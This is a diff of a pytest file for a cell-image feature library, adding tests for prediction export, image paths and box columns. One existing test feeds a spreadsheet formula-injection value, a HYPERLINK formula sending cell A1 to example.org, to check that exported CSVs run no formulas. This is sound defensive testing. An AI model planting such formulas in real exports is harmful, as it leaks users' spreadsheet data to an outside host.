@@ -1,4 +1,5 @@
 import csv
+import os
 import sys
 
 import numpy as np
@@ -6,7 +7,7 @@ import pandas as pd
 import pytest
 
 from leukfeat import FeatureSet
-from leukfeat.data import CellDataset, export_table, load_csv
+from leukfeat.data import CellDataset, apply_corrections, export_table, load_csv
 
 
 @pytest.fixture
@@ -63,7 +64,8 @@ def test_a_csv_file_can_be_loaded_again(cells, tmp_path):
     np.testing.assert_array_equal(again.column("um_per_px"), cells.column("um_per_px"))
 
 
-def test_a_csv_file_runs_no_formula(tmp_path):
+def test_a_csv_file_runs_no_formula(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
     bad = '=HYPERLINK("http://example.org?"&A1,"open")'
     cells = CellDataset.from_arrays(
         [f"{bad}.png", "-2.png"], ["@x", "b"], ["+4", "4"], **{"=note": [bad, "fine"], "n": [-1, 2]}
@@ -174,3 +176,57 @@ def test_further_wrong_arguments(cells, tmp_path):
     neutral = CellDataset.from_arrays(["a.png"], ["x"])
     with pytest.raises(ValueError, match="no positive class"):
         export_table(neutral, probabilities=[0.5])
+
+
+def predicted(cells):
+    return pd.DataFrame(
+        {
+            "image": [str(image) for image in cells.images],
+            "label": ["blast", "other", "blast"],
+            "p_blast": [0.75, 0.25, 1.0],
+            "p_other": [0.25, 0.75, 0.0],
+            "distance": [0.5, 2.0, 0.25],
+            "far": [False, True, False],
+            "reason": ["", "far from all training cells", "was in the training"],
+        }
+    )
+
+
+def test_what_a_classifier_says_is_written_under_its_own_classes(cells):
+    table = export_table(cells, predictions=predicted(cells))
+    assert table["label"].tolist()[::2] == ["hem", "all"]
+    assert table["predicted"].tolist() == ["blast", "other", "blast"]
+    assert table["probability_other"].tolist() == [0.25, 0.75, 0.0]
+    assert table["far"].tolist() == [False, True, False]
+    assert table["reason"].iloc[2] == "was in the training"
+    with pytest.raises(ValueError, match="2 rows, but there are 3 cells"):
+        export_table(cells, predictions=predicted(cells)[:2])
+    with pytest.raises(ValueError, match=r"Row 0 of 'predictions' is of '.*c\.png'"):
+        export_table(cells, predictions=predicted(cells)[::-1].reset_index(drop=True))
+    with pytest.raises(ValueError, match="leave 'probabilities' out"):
+        export_table(cells, predictions=predicted(cells), probabilities=[0.5] * 3)
+
+
+def test_a_table_in_another_folder_finds_its_images_again(tmp_path, monkeypatch):
+    (tmp_path / "data").mkdir()
+    (tmp_path / "tables").mkdir()
+    (tmp_path / "data" / "a.png").touch()
+    monkeypatch.chdir(tmp_path)
+    cells = CellDataset.from_arrays(["data/a.png"], ["all"], class_names=["hem", "all"])
+    export_table(cells, "here.csv")
+    assert rows(tmp_path / "here.csv")[1][0] == "data/a.png"
+    export_table(cells, "tables/there.csv")
+    for table in ("here.csv", "tables/there.csv"):
+        (image,) = load_csv(table).images
+        assert os.path.samefile(image, "data/a.png")
+        assert apply_corrections(cells, table).y.tolist() == [1]
+
+
+def test_cells_that_were_found_have_the_documented_box():
+    cells = CellDataset.from_arrays(
+        ["a.png"], ["x"], top=[3], left=[5], bottom=[13], right=[25], area=[7.0]
+    )
+    table = export_table(cells)
+    assert list(table.columns) == ["image", "x", "y", "width", "height", "label", "area"]
+    assert table.iloc[0, 1:5].tolist() == [5, 3, 20, 10]
+    assert cells.column("top").tolist() == [3]
